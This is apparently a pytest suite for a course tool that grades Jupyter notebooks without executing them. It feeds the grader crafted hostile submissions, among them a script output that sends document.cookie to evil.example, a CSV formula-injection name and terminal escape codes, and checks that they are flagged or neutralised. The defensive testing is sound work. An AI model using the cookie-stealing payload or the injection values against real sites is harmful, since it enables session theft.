"""Grading executed notebooks without running them: crafted good, bad and hostile submissions."""

from __future__ import annotations

import argparse
import copy
import csv
import json
import os
from pathlib import Path

import nbformat
import pytest
from crafted_notebooks import REPO, cell_of, error_output, lab2_results, make_notebook, record_cell, rouge_scores, write
from nbformat.v4 import new_output

from genai_course import grade_cli, grading
from genai_course.grading import grade_notebook, grade_paths
from genai_course.notebook_reading import SYMLINK_REFUSED
from genai_course.results import RESULTS_MIME
from genai_course.rubric import Rubric, find_rubric


@pytest.fixture(scope="module")
def rubric() -> Rubric:
    return Rubric.load(REPO / "labs" / "lab2_finetuning" / "rubric.toml")


def crafted_cases(folder: Path, canary: Path) -> dict[str, tuple[Path, str, str]]:
    """name -> (file, expected verdict, a phrase the reasons/flags must contain)."""
    cases: dict[str, tuple[Path, str, str]] = {}

    def add(name: str, notebook, verdict: str, phrase: str) -> None:
        cases[name] = (write(notebook, folder / f"{name}.ipynb"), verdict, phrase)

    add("passing", make_notebook(), "pass", "")
    add("failing_thresholds", make_notebook(results=lab2_results(lora_rouge1=0.30)), "fail", "LoRA comes within 0.04")

    errored = make_notebook()
    errored.cells[1].outputs = [error_output("ModuleNotFoundError", "No module named 'genai_course'")]
    add("errored_cell", errored, "fail", "raised ModuleNotFoundError")

    out_of_order = make_notebook()
    out_of_order.cells[4].execution_count = 9
    add("out_of_order", out_of_order, "fail", "out of order")

    add("wrong_lab", make_notebook(lab="lab1", results={"n_eval": 120}), "fail", "wrong lab")

    tampered = make_notebook()
    record_cell(tampered).outputs[0].data[RESULTS_MIME]["results"]["rouge"]["lora"]["rouge1"] = 0.99
    add("tampered_results", tampered, "fail", "tampered")

    no_results = make_notebook()
    record_cell(no_results).outputs = []
    add("no_results", no_results, "fail", "no recorded results")

    unanswered = make_notebook()
    stub = "def tokenize_padded(batch):\n    # YOUR CODE HERE\n    raise NotImplementedError()"
    cell_of(unanswered, "lab2-ex1-answer").source = stub
    cell_of(unanswered, "lab2-ex1-test").outputs = [error_output("NameError", "name 'tokenize_padded' is not defined")]
    add("unanswered", unanswered, "fail", "not answered")

    scripted = make_notebook()
    scripted.cells[1].outputs = [
        new_output(
            "display_data",
            data={"text/html": "<script>fetch('https://evil.example/'+document.cookie)</script>", "text/plain": "x"},
        ),
        new_output("display_data", data={"application/javascript": "alert(1)"}),
    ]
    add("html_script", scripted, "pass", "<script>")

    writer = make_notebook()
    payload = f"open({str(canary)!r}, 'w').write('executed!')"
    answer = cell_of(writer, "lab2-ex1-answer")  # answer cells are the student's: any code may be there
    answer.source = payload + "\n" + answer.source
    add("writes_a_file", writer, "pass", "")

    (folder / "malformed_json.ipynb").write_text('{"cells": [ {"cell_type": "code", ', encoding="utf-8")
    cases["malformed_json"] = (folder / "malformed_json.ipynb", "error", "not valid JSON")
    (folder / "not_a_notebook.ipynb").write_text(json.dumps({"hello": "world", "cells": "no"}), encoding="utf-8")
    cases["not_a_notebook"] = (folder / "not_a_notebook.ipynb", "error", "not a Jupyter notebook")
    (folder / "json_list.ipynb").write_text("[1, 2, 3]", encoding="utf-8")
    cases["json_list"] = (folder / "json_list.ipynb", "error", "not a Jupyter notebook")
    bad_schema = json.loads(nbformat.writes(make_notebook()))
    bad_schema["cells"][1]["cell_type"] = "rocket"
    (folder / "invalid_schema.ipynb").write_text(json.dumps(bad_schema), encoding="utf-8")
    cases["invalid_schema"] = (folder / "invalid_schema.ipynb", "error", "not a valid notebook")
    (folder / "binary.ipynb").write_bytes(b"\x89PNG\r\n\x1a\n\x00\xff\xfe")
    cases["binary"] = (folder / "binary.ipynb", "error", "not UTF-8")
    (folder / "deep_nesting.ipynb").write_text("[" * 200_000 + "]" * 200_000, encoding="utf-8")
    cases["deep_nesting"] = (folder / "deep_nesting.ipynb", "error", "JSON")
    with open(folder / "oversized.ipynb", "wb") as handle:  # sparse: 21 MB on paper, never read
        handle.truncate(21_000_000)
    cases["oversized"] = (folder / "oversized.ipynb", "error", "over the 20 MB limit")
    return cases


@pytest.fixture(scope="module")
def graded(tmp_path_factory, rubric):
    folder = tmp_path_factory.mktemp("submissions")
    canary = tmp_path_factory.mktemp("canary") / "pwned.txt"
    cases = crafted_cases(folder, canary)
    reports = {name: grade_notebook(path, rubric) for name, (path, _, _) in cases.items()}
    return cases, reports, canary, folder


# ----------------------------------------------------------------------------- verdicts


CASE_NAMES = [
    "passing",
    "failing_thresholds",
    "errored_cell",
    "out_of_order",
    "wrong_lab",
    "tampered_results",
    "no_results",
    "unanswered",
    "html_script",
    "writes_a_file",
    "malformed_json",
    "not_a_notebook",
    "json_list",
    "invalid_schema",
    "binary",
    "deep_nesting",
    "oversized",
]


@pytest.mark.parametrize("name", CASE_NAMES)
def test_crafted_case_gets_the_right_verdict(graded, name):
    cases, reports, _, _ = graded
    _, expected, phrase = cases[name]
    report = reports[name]
    assert report.verdict == expected, f"{name}: expected {expected}, got {report.verdict}: {report.reasons}"
    said = report.reasons + report.flags
    assert phrase in " ".join(said), f"{name}: {phrase!r} not in {said}"


def test_passing_notebook_meets_every_threshold_and_exercise(graded, rubric):
    report = graded[1]["passing"]
    assert report.reasons == [] and report.flags == []
    assert report.profile == "tiny"
    assert (report.rules_passed, report.rules_total) == (len(rubric.profiles["tiny"]), len(rubric.profiles["tiny"]))
    assert (report.exercises_answered, report.exercises_total, report.tests_passed, report.points) == (2, 2, 2, 2.0)


def test_threshold_failure_reports_what_was_measured(graded):
    reasons = " ".join(graded[1]["failing_thresholds"].reasons)
    assert "rouge.lora.rouge1 - rouge.full.rouge1 = 0.3 - 0.55 = -0.25, needs >= -0.04" in reasons


def test_tampering_names_the_forged_key(graded):
    assert "rouge.lora.rouge1" in " ".join(graded[1]["tampered_results"].reasons)


def test_script_outputs_are_flagged_not_rendered(graded):
    flags = graded[1]["html_script"].flags
    assert any("text/html" in f for f in flags) and any("application/javascript" in f for f in flags)


def test_grading_never_executes_submitted_code(graded):
    _, reports, canary, _ = graded
    assert reports["writes_a_file"].verdict == "pass"
    assert not canary.exists(), "grading ran the submitted code: the file it writes appeared"


def test_failed_exercise_test_is_reported_by_grade_id(rubric, tmp_path):
    notebook = make_notebook()
    cell_of(notebook, "lab2-ex2-test").outputs = [error_output("AssertionError", "")]
    report = grade_notebook(write(notebook, tmp_path / "a.ipynb"), rubric)
    assert report.verdict == "fail" and report.tests_passed == 1
    assert any("test lab2-ex2-test failed: AssertionError" in r for r in report.reasons)


def test_unrun_cells_and_forged_records_fail(rubric, tmp_path):
    notebook = make_notebook()
    record_cell(notebook).execution_count = None  # outputs pasted in, never produced by a run
    report = grade_notebook(write(notebook, tmp_path / "a.ipynb"), rubric)
    assert report.verdict == "fail"
    assert any("never ran" in r for r in report.reasons) and any("not run" in r for r in report.reasons)


def test_deleted_exercises_are_noticed(rubric, tmp_path):
    notebook = make_notebook()
    exercises = {cell_of(notebook, f"lab2-ex{n}-{part}").id for n in (1, 2) for part in ("answer", "test")}
    notebook.cells = [c for c in notebook.cells if c.id not in exercises]
    report = grade_notebook(write(notebook, tmp_path / "a.ipynb"), rubric)
    assert report.verdict == "fail" and any("were cells deleted" in r for r in report.reasons)
    assert any("test lab2-ex1-test of the release is missing" in r for r in report.reasons)


def test_profile_is_checked(rubric, tmp_path):
    path = write(make_notebook(), tmp_path / "a.ipynb")
    assert grade_notebook(path, rubric, profile="full").verdict == "fail"
    unknown = grade_notebook(write(make_notebook(profile="huge"), tmp_path / "b.ipynb"), rubric)
    assert unknown.verdict == "fail" and any("no thresholds for profile 'huge'" in r for r in unknown.reasons)


def test_missing_file_and_folder_are_errors_not_crashes(rubric, tmp_path):
    assert grade_notebook(tmp_path / "nope.ipynb", rubric).verdict == "error"
    (tmp_path / "dir.ipynb").mkdir()
    assert grade_notebook(tmp_path / "dir.ipynb", rubric).reasons == ["not a regular file"]
    (tmp_path / "endless.ipynb").symlink_to("/dev/zero")  # reading it would never end: links are refused unread
    assert grade_notebook(tmp_path / "endless.ipynb", rubric).reasons == [SYMLINK_REFUSED]
    os.mkfifo(tmp_path / "fifo.ipynb")  # opening it would block
    assert grade_notebook(tmp_path / "fifo.ipynb", rubric).reasons == ["not a regular file"]


# ----------------------------------------------------------------------------- batch, table, CSV, CLI


def _cli(argv: list[str]) -> int:
    parser = argparse.ArgumentParser()
    grade_cli.register(parser.add_subparsers())
    args = parser.parse_args(argv)
    return args.func(args)


def test_cli_grades_a_folder_prints_a_table_and_writes_csv(graded, tmp_path, capsys):
    cases, _, canary, folder = graded
    out_csv = tmp_path / "grades.csv"
    assert _cli(["grade", "lab2_finetuning", str(folder), "--csv", str(out_csv)]) == 1  # some files are errors
    captured = capsys.readouterr()
    printed = captured.out
    assert "file(s) could not be graded" in captured.err
    assert "student" in printed and "verdict" in printed and "Details:" in printed
    rows = {row["student"]: row for row in csv.DictReader(out_csv.open(encoding="utf-8"))}
    assert set(rows) == set(cases)
    for name, (_, expected, _) in cases.items():
        assert rows[name]["verdict"] == expected, name
    assert rows["passing"]["points"] == "2" and rows["passing"]["rubric_passed"] == rows["passing"]["rubric_total"]
    assert "3 pass" in printed and f"{sum(v == 'error' for _, v, _ in cases.values())} error" in printed
    assert not canary.exists()


def test_cli_usage_errors_exit_2(tmp_path, capsys):
    assert _cli(["grade", "lab9", str(tmp_path)]) == 2
    assert "Unknown lab 'lab9'" in capsys.readouterr().err
    assert _cli(["grade", "lab2", str(tmp_path)]) == 2  # empty folder
    assert "no .ipynb files" in capsys.readouterr().err
    assert _cli(["grade", "lab2", str(tmp_path), "--rubric", str(tmp_path / "none.toml")]) == 2
    assert "does not exist" in capsys.readouterr().err
    assert _cli(["grade", "lab2", str(tmp_path / "absent.ipynb")]) == 2
    error = capsys.readouterr().err
    assert "no such file or folder" in error and "Traceback" not in error and len(error.strip().splitlines()) == 1
    assert _cli(["grade", "lab2", str(tmp_path), "--max-mb", "-1"]) == 2
    assert "--max-mb must be a positive" in capsys.readouterr().err


def test_cli_exits_0_when_every_file_is_graded(tmp_path, capsys):
    write(make_notebook(), tmp_path / "alice.ipynb")
    write(make_notebook(results=lab2_results(lora_rouge1=0.1)), tmp_path / "bob.ipynb")
    assert _cli(["grade", "lab2", str(tmp_path)]) == 0
    printed = capsys.readouterr().out
    assert "1 pass, 1 fail, 0 error" in printed


def test_size_limit_is_configurable(rubric, tmp_path):
    path = write(make_notebook(), tmp_path / "a.ipynb")
    report = grade_notebook(path, rubric, max_megabytes=0.001)
    assert report.verdict == "error" and "over the 0.001 MB limit" in report.reasons[0]


def test_nbgrader_folder_layout_names_students_and_csv_is_injection_safe(rubric, tmp_path):
    for student in ("alice", "=HYPERLINK(evil)"):
        (tmp_path / student / "lab2").mkdir(parents=True)
        write(make_notebook(), tmp_path / student / "lab2" / "lab2_finetuning.ipynb")
    reports = grade_paths("lab2", [tmp_path], rubric, progress=False)
    assert sorted(r.student for r in reports) == ["=HYPERLINK(evil)", "alice"]
    grading.write_csv(reports, tmp_path / "g.csv")
    text = (tmp_path / "g.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(evil)" in text and "\n=HYPERLINK" not in text


def test_control_characters_in_submissions_are_not_printed(rubric, tmp_path):
    notebook = make_notebook()
    notebook.cells[1].outputs = [error_output("Evil\x1b[2J", "clear\x1b]0;title\x07")]
    report = grade_notebook(write(notebook, tmp_path / "a.ipynb"), rubric)
    assert "\x1b" not in grading.format_table([report]) and "\x07" not in " ".join(report.reasons)


# ----------------------------------------------------------------------------- a lab1 record


def test_a_record_with_lab1_keys_passes_the_lab1_rubric(tmp_path):
    """The lab1 rubric against a record shaped exactly like the shared API (wildcards over strategies)."""
    results = {
        "n_eval": 120,
        "context_window": 512,
        "rouge": {
            "no_prompt": rouge_scores(0.1),
            "instruction": rouge_scores(0.25),
            "flan": rouge_scores(0.2),
            "one_shot": rouge_scores(0.45),
            "few_shot": rouge_scores(0.44),
        },
        "zero_shot_best": {"name": "instruction", "rouge1": 0.25},
        "shots_curve": [
            {"shots": k, "rouge1": 0.4, "rougeL": 0.3, "prompt_tokens_max": 200 * k, "fits": k < 3} for k in range(5)
        ],
        "overflow_detected": True,
    }
    notebook = make_notebook(lab="lab1", results=results)
    report = grade_notebook(write(notebook, tmp_path / "l1.ipynb"), Rubric.load(find_rubric("lab1")))
    assert report.verdict == "pass", report.reasons
    flat = copy.deepcopy(results)
    for strategy in flat["rouge"].values():
        strategy["rouge1"] = 0.3
    notebook = make_notebook(lab="lab1", results=flat)
    report = grade_notebook(write(notebook, tmp_path / "l1b.ipynb"), Rubric.load(find_rubric("lab1")))
    assert report.verdict == "fail" and any("strategies differ" in r for r in report.reasons)
